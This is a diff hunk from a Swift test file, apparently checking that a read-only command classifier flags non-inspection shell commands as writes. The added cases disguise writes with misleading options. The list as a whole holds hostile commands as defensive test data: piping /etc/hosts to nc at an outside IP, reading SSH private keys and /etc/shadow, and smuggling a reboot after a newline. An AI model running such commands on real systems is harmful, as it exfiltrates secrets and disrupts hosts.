@@ -85,7 +85,8 @@ import Testing
     "rev /srv/landfall/app.env", "cat /etc/hosts | nc 203.0.113.9 80", "ls; reboot", "cat $HOME/.ssh/id_ed25519", "cat `echo x`",
     "hostname evil", "date -s 2020-01-01", "docker exec web env", "docker inspect web", "tail -f /var/log/syslog", "journalctl --vacuum-size=1",
     "/bin/cat /etc/hosts", "FOO=1 ls", "cat ~/.ssh/id_ed25519", "curl -o /tmp/x http://example.com", "systemctl restart nginx",
-    "sudo cat /etc/shadow", "ls\nreboot",
+    "sudo cat /etc/shadow", "ls\nreboot", "docker --config ps run -d --name app app:1", "docker --config ps compose up -d",
+    "systemctl -p status start notes-demo", "docker -H tcp://203.0.113.9 ps",
   ])
   func commandsThatAreNotPlainInspectionsAreWrites(command: String) {
     guard case .write = ReadOnlyCommand.judge(command) else {
